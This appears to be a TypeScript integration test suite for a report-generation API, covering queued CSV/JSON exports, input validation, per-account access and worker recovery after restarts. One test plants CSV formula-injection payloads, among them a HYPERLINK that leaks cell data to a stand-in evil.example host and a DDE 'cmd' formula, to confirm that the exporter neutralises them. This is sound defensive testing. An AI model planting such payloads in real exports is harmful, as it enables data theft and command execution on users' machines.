import { existsSync } from 'node:fs';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createServer } from '../../gateway/server.ts';
import { claimJob, heartbeat } from '../../subgraphs/verticals/reports/queue.ts';
import { startTestService } from '../support/service.ts';
import type { TestService } from '../support/service.ts';

let service: TestService;
let dataDir: string;
let key: string;
let accountId: string;
let otherKey: string;
const WORKER = { pollMs: 100, staleAfterMs: 1500, batchSize: 40 };

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'reports-test-'));
  service = await startTestService({ sandboxScale: 300, liveScale: 300, server: { dataDir, reportWorker: WORKER } });
  ({ key, accountId } = await service.createKey());
  ({ key: otherKey } = await service.createKey());
});
afterAll(async () => {
  await service?.stop();
  await rm(dataDir, { recursive: true, force: true });
});

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * Waits on the database (polling the API would spend the sandbox key's trial calls), then reads the job
 * through the API once.
 */
async function waitForReport(
  id: string,
  until: (job: { status: string; rowCount: number }) => boolean,
  as = key,
  mode: 'sandbox' | 'live' = 'sandbox',
) {
  const deadline = Date.now() + 50_000;
  for (;;) {
    const job = await service.databases[mode].prisma.reportJob.findUniqueOrThrow({
      where: { id: Number(id.slice(4)) },
    });
    if (until(job)) break;
    if (job.status === 'failed' || Date.now() > deadline)
      throw new Error(`report ${id} did not get there: ${JSON.stringify(job)}`);
    await sleep(50);
  }
  const response = await service.get(`/api/v1/reports/${id}`, as);
  expect(response.status).toBe(200);
  return response.body.data;
}

/** generateReport is limited per account (10 an hour), so each test speaks for an account of its own. */
async function newAccount() {
  ({ key, accountId } = await service.createKey());
}

const generate = (body: unknown, as = key) => service.request('POST', '/api/v1/reports/generate', { key: as, body });

/** Minimal RFC 4180 reader for the test's own check of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && char === '"') {
      quoted = false;
    } else if (quoted) {
      cell += char;
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',' || char === '\n') {
      row.push(cell);
      cell = '';
      if (char === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      cell += char;
    }
  }
  return rows;
}

beforeEach(newAccount);

describe('POST /api/v1/reports/generate', () => {
  it('queues a job (202, queued) and a worker writes the filtered records as CSV, the list route’s records', async () => {
    const response = await generate({
      vertical: 'realestate',
      filters: { min_equity: 50, state: 'CA' },
      format: 'csv',
    });
    expect(response.status).toBe(202);
    expect(response.body.success).toBe(true);
    const job = response.body.data;
    expect(job.id).toMatch(/^rpt_\d+$/);
    expect(job).toMatchObject({
      status: 'queued',
      vertical: 'realestate',
      record_type: 'properties',
      format: 'csv',
      progress: 0,
      row_count: 0,
      download_url: null,
    });
    expect(job.filters).toEqual({ min_equity: 50, state: 'CA' });

    const done = await waitForReport(job.id, (current) => current.status === 'completed');
    const [expected] = await service.databases.sandbox.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM properties WHERE equity_pct >= 50 AND state = 'CA'`,
    );
    expect(expected!.n).toBeGreaterThan(0);
    expect(done).toMatchObject({
      progress: 100,
      row_count: expected!.n,
      download_url: `/api/v1/reports/${job.id}/download`,
    });
    expect(new Date(done.completed_at).getTime()).toBeGreaterThanOrEqual(new Date(done.started_at).getTime());

    const file = await service.get(`/api/v1/reports/${job.id}/download`, key);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toContain('text/csv');
    expect(file.headers.get('content-disposition')).toContain(`${job.id}.csv`);
    const [header, ...rows] = parseCsv(file.text);
    const list = await service.get('/api/v1/realestate/properties?min_equity=50&state=CA&sort=id&per_page=100', key);
    expect(header).toEqual(Object.keys(list.body.data[0]));
    expect(rows.length).toBe(expected!.n);
    // Same records as the list route, in id order.
    const ids = rows.map((row) => row[0]);
    expect(ids.slice(0, list.body.data.length)).toEqual(list.body.data.map((record: { id: string }) => record.id));
    const first = Object.fromEntries(header!.map((name, i) => [name, rows[0]![i]]));
    expect(first.address).toBe(list.body.data[0].address);
    expect(first.owner_name).toBe(list.body.data[0].owner_name);
  });

  it('writes JSON with only the asked fields, for any record type of the vertical', async () => {
    const response = await generate({
      vertical: 'legal',
      record_type: 'firms',
      filters: { practice_area: 'Personal Injury' },
      format: 'json',
      fields: ['id', 'name', 'partners'],
    });
    expect(response.status).toBe(202);
    await waitForReport(response.body.data.id, (job) => job.status === 'completed');
    const file = await service.get(`/api/v1/reports/${response.body.data.id}/download`, key);
    expect(file.headers.get('content-type')).toContain('application/json');
    const records = file.body as { id: string; name: string; partners: { id: string; name: string }[] }[];
    const [expected] = await service.databases.sandbox.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM firms WHERE 'Personal Injury' = ANY(practice_areas)`,
    );
    expect(records.length).toBe(expected!.n);
    for (const record of records) expect(Object.keys(record)).toEqual(['id', 'name', 'partners']);
    const withPartners = records.find((record) => record.partners.length > 0)!;
    const [partners] = await service.databases.sandbox.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM attorneys WHERE firm_id = $1 AND is_partner`,
      [Number(withPartners.id.slice(5))],
    );
    expect(withPartners.partners.length).toBe(partners!.n);
  });

  it('defaults to the vertical’s main records and writes an empty file for no match', async () => {
    const response = await generate({
      vertical: 'b2b',
      filters: { min_score: 100, industry: 'software', state: 'WY' },
    });
    expect(response.body.data).toMatchObject({ record_type: 'companies', format: 'csv' });
    const done = await waitForReport(response.body.data.id, (job) => job.status === 'completed');
    const [expected] = await service.databases.sandbox.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM companies WHERE ai_score >= 100 AND industry = 'software' AND state = 'WY'`,
    );
    expect(done.row_count).toBe(expected!.n);
    const file = await service.get(`/api/v1/reports/${response.body.data.id}/download`, key);
    expect(parseCsv(file.text).length).toBe(expected!.n + 1);
  });

  it('writes text a spreadsheet would run as a formula with a leading quote, and numbers as they are', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+SUM(1,2)', '@SUM(1,2)', '-1+1'];
    const db = service.databases.sandbox;
    const owner = await db.prisma.owner.create({
      data: {
        name: "=cmd|' /C calc'!A0",
        ownerType: 'individual',
        mailingAddress: '\t=1+1',
        mailingCity: 'Formula Falls',
        mailingState: 'NV',
        mailingZip: '89001',
        phone: '+1 555 0100',
        email: 'owner@example.com',
        propertiesCount: hostile.length,
        portfolioValue: 1,
        absentee: false,
      },
    });
    for (const [i, address] of hostile.entries()) {
      await db.prisma.property.create({
        data: {
          address,
          city: 'Formula Falls',
          state: 'NV',
          zip: '89001',
          county: '\r=1+1',
          propertyType: 'condo',
          bedrooms: -5,
          estimatedValue: 100_000,
          mortgageBalance: 101_500 + i,
          equityPct: -1.5,
          ownerId: owner.id,
          absenteeOwner: false,
        },
      });
    }
    const response = await generate({
      vertical: 'realestate',
      filters: { city: 'Formula Falls' },
      fields: ['address', 'county', 'bedrooms', 'equity_pct', 'owner_name'],
    });
    expect(response.status, response.text).toBe(202);
    await waitForReport(response.body.data.id, (job) => job.status === 'completed');
    const file = await service.get(`/api/v1/reports/${response.body.data.id}/download`, key);
    const [header, ...rows] = parseCsv(file.text);
    expect(header).toEqual(['address', 'county', 'bedrooms', 'equity_pct', 'owner_name']);
    expect(rows.map((row) => row[0])).toEqual(hostile.map((name) => `'${name}`));
    for (const row of rows) expect(row.slice(1)).toEqual(["'\r=1+1", '-5', '-1.5', "'=cmd|' /C calc'!A0"]);
    // Only the file's cells change: the records keep their names as given.
    const list = await service.get('/api/v1/realestate/properties?city=Formula%20Falls&sort=id', key);
    expect(list.body.data.map((record: { address: string }) => record.address)).toEqual(hostile);
  });

  it.each([
    [{ filters: { min_equity: 50 } }, 'vertical'],
    [{ vertical: 'space' }, 'vertical'],
    [{ vertical: 'realestate', format: 'xlsx' }, 'format'],
    [{ vertical: 'realestate', record_type: 'attorneys' }, 'record_type'],
    [{ vertical: 'realestate', filters: { min_equity: -5 } }, 'filters.min_equity'],
    [{ vertical: 'realestate', filters: { min_equity: 'lots' } }, 'filters.min_equity'],
    [{ vertical: 'realestate', filters: { state: 'XX' } }, 'filters.state'],
    [{ vertical: 'realestate', filters: { practice_area: 'Tax Law' } }, 'filters.practice_area'],
    [{ vertical: 'realestate', filters: 'CA' }, 'filters'],
    [{ vertical: 'legal', filters: { bar_status: 'disbarred' } }, 'filters.bar_status'],
    [{ vertical: 'realestate', fields: ['address', 'password'] }, 'fields'],
    [{ vertical: 'realestate', fields: ['address', 'constructor'] }, 'fields'],
    [{ vertical: 'realestate', fields: ['address', 'toString'] }, 'fields'],
    [{ vertical: 'realestate', fields: 'address' }, 'fields'],
    [{ vertical: 'realestate', colour: 'blue' }, 'colour'],
  ])('rejects %j with a 400 naming %s', async (body, parameter) => {
    const response = await generate(body);
    expect(response.status).toBe(400);
    expect(response.body.error).toBe('invalid_parameter');
    expect(typeof response.body.message).toBe('string');
    expect(Object.keys(response.body.details)).toContain(parameter);
  });

  it('refuses a request without a key (401) and never queues it', async () => {
    const before = await service.databases.sandbox.prisma.reportJob.count();
    const response = await service.request('POST', '/api/v1/reports/generate', { body: { vertical: 'b2b' } });
    expect(response.status).toBe(401);
    expect(await service.databases.sandbox.prisma.reportJob.count()).toBe(before);
  });
});

describe('GET /api/v1/reports/:id and /download', () => {
  it('hides one account’s reports from another (404, not 403), in REST, download and GraphQL', async () => {
    const response = await generate({ vertical: 'legal' });
    expect(response.status, response.text).toBe(202);
    const { id } = response.body.data;
    await waitForReport(id, (job) => job.status === 'completed');
    expect((await service.get(`/api/v1/reports/${id}`, otherKey)).status).toBe(404);
    const download = await service.get(`/api/v1/reports/${id}/download`, otherKey);
    expect(download.status).toBe(404);
    expect(download.body.error).toBe('not_found');
    const data = await service.graphql('query ($id: String!) { report(id: $id) { id } }', { id }, otherKey);
    expect(data.report).toBeNull();
    const own = await service.graphql('query ($id: String!) { report(id: $id) { id status rowCount } }', { id }, key);
    expect(own.report).toMatchObject({ id, status: 'completed' });
    const listed = await service.get('/api/v1/reports?status=completed', otherKey);
    expect(listed.body.data.map((job: { id: string }) => job.id)).not.toContain(id);
  });

  it('answers 404 for unknown ids, 400 for malformed ones, 409 for a file not ready', async () => {
    expect((await service.get('/api/v1/reports/rpt_999999', key)).status).toBe(404);
    expect((await service.get('/api/v1/reports/rpt_999999/download', key)).status).toBe(404);
    const malformed = await service.get('/api/v1/reports/banana', key);
    expect(malformed.status).toBe(400);
    expect(malformed.body.details).toHaveProperty('id');
    expect((await service.get('/api/v1/reports/banana/download', key)).status).toBe(400);
    const failed = await service.databases.sandbox.prisma.reportJob.create({
      data: {
        accountId,
        vertical: 'b2b',
        recordType: 'companies',
        filters: {},
        format: 'csv',
        fields: [],
        status: 'failed',
      },
    });
    const notReady = await service.get(`/api/v1/reports/rpt_${failed.id}/download`, key);
    expect(notReady.status).toBe(409);
    expect(notReady.body.error).toBe('conflict');
  });

  it('keeps live and sandbox jobs apart: a live key’s report reads the live database', async () => {
    const live = await service.createKey({ mode: 'live' });
    const response = await generate(
      { vertical: 'b2b', record_type: 'contacts', filters: { seniority: 'c_level' } },
      live.key,
    );
    expect(response.status).toBe(202);
    const done = await waitForReport(response.body.data.id, (job) => job.status === 'completed', live.key, 'live');
    const [expected] = await service.databases.live.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM contacts WHERE seniority = 'c_level'`,
    );
    expect(done.row_count).toBe(expected!.n);
    expect(
      await service.databases.live.prisma.reportJob.count({ where: { id: Number(response.body.data.id.slice(4)) } }),
    ).toBe(1);
    expect(existsSync(join(dataDir, 'reports', 'live', `${response.body.data.id}.csv`))).toBe(true);
  });
});

describe('the report worker across restarts', () => {
  it('hands a job back when the server stops mid-run, and the next server finishes it', async () => {
    const response = await generate({ vertical: 'b2b', record_type: 'contacts', format: 'json' });
    const { id } = response.body.data;
    await waitForReport(id, (job) => job.status === 'completed' || (job.status === 'processing' && job.rowCount > 0));
    await service.app.close();
    const row = await service.databases.sandbox.prisma.reportJob.findUniqueOrThrow({
      where: { id: Number(id.slice(4)) },
    });
    // Stopped mid-run the job is queued again; a tiny table may have finished first.
    expect(['queued', 'completed']).toContain(row.status);

    const restarted: FastifyInstance = await createServer({
      databases: service.databases,
      dataDir,
      reportWorker: WORKER,
    });
    await restarted.listen({ port: 0, host: '127.0.0.1' });
    try {
      const deadline = Date.now() + 60_000;
      let job = row;
      while (job.status !== 'completed' && Date.now() < deadline) {
        await sleep(100);
        job = await service.databases.sandbox.prisma.reportJob.findUniqueOrThrow({ where: { id: row.id } });
      }
      const contacts = await service.databases.sandbox.prisma.contact.count();
      expect(job).toMatchObject({ status: 'completed', rowCount: contacts, progress: 100 });
    } finally {
      await restarted.close();
    }
  });

  it('retries a job whose worker was killed (stale heartbeat), from scratch, after a restart', async () => {
    const db = service.databases.sandbox;
    const account = (await service.databases.live.prisma.account.findFirstOrThrow()).id;
    const queued = await db.prisma.reportJob.create({
      data: {
        accountId: account,
        vertical: 'realestate',
        recordType: 'owners',
        filters: { minProperties: 2 },
        format: 'csv',
        fields: [],
      },
    });
    // A worker of a server that is then killed: it claims the job, writes part of it, and stops beating.
    const claimed = await claimJob(db, WORKER.staleAfterMs);
    expect(claimed?.id).toBe(queued.id);
    expect(await heartbeat(db, claimed!, 40, 17)).toBe(true);
    expect(await claimJob(db, WORKER.staleAfterMs)).toBeUndefined(); // fresh heartbeat: nobody may take it

    const restarted = await createServer({ databases: service.databases, dataDir, reportWorker: WORKER });
    await restarted.listen({ port: 0, host: '127.0.0.1' });
    try {
      const deadline = Date.now() + 60_000;
      let job = await db.prisma.reportJob.findUniqueOrThrow({ where: { id: queued.id } });
      while (job.status !== 'completed' && Date.now() < deadline) {
        await sleep(100);
        job = await db.prisma.reportJob.findUniqueOrThrow({ where: { id: queued.id } });
      }
      const owners = await db.prisma.owner.count({ where: { propertiesCount: { gte: 2 } } });
      expect(job).toMatchObject({ status: 'completed', attempts: 2, rowCount: owners, progress: 100 });
      // The dead attempt's write is void: the stale worker can no longer report progress.
      expect(await heartbeat(db, claimed!, 50, 20)).toBe(false);
      const files = await readdir(join(dataDir, 'reports', 'sandbox'));
      expect(files.filter((name) => name.endsWith('.partial'))).toEqual([]);
    } finally {
      await restarted.close();
    }
  });
});
